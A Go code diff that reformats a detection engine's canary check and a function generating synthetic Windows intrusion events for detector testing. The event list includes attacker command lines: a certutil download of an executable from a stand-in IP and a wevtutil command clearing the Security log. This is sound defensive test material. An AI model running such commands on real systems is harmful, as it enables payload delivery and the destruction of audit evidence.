@@ -115,7 +115,10 @@ func (w *watched) try(e *event.Event, report detect.Report) error {
 		report(detect.Finding{
 			RuleID: name + "/canary", Title: "A Detector No Longer Sees What It Must", Severity: severity.High, Confidence: 0.7,
 			EventTime: e.Time, Evidence: []uint64{e.ID}, Entities: &alert.Entities{},
-			Reasons: []alert.Reason{{Part: w.name, Field: "canaries seen", Value: fmt.Sprintf("%.0f %%", 100*seen), Test: fmt.Sprintf("%.0f %% before", 100*w.best)}},
+			Reasons: []alert.Reason{{
+				Part: w.name, Field: "canaries seen", Value: fmt.Sprintf("%.0f %%", 100*seen),
+				Test: fmt.Sprintf("%.0f %% before", 100*w.best),
+			}},
 		})
 	}
 	if w.good == nil {
@@ -188,7 +191,10 @@ func intrusion(at time.Duration, host *inventory.Host) []*event.Event {
 		`C:\Windows\System32\certutil.exe -urlcache -f http://203.0.113.250/a C:\Users\Public\a.exe`, `C:\Windows\System32\wevtutil.exe cl Security`,
 	} {
 		image, _, _ := strings.Cut(line, " ")
-		e := &event.Event{Time: at + time.Duration(i)*30*time.Second, Host: host.Name, Source: event.LogSource{Product: "windows", Service: "sysmon", Category: "process_creation"}}
+		e := &event.Event{
+			Time: at + time.Duration(i)*30*time.Second, Host: host.Name,
+			Source: event.LogSource{Product: "windows", Service: "sysmon", Category: "process_creation"},
+		}
 		e.Set(event.EventID, "1")
 		e.Set(event.Computer, host.Name)
 		e.Set(event.Image, image)
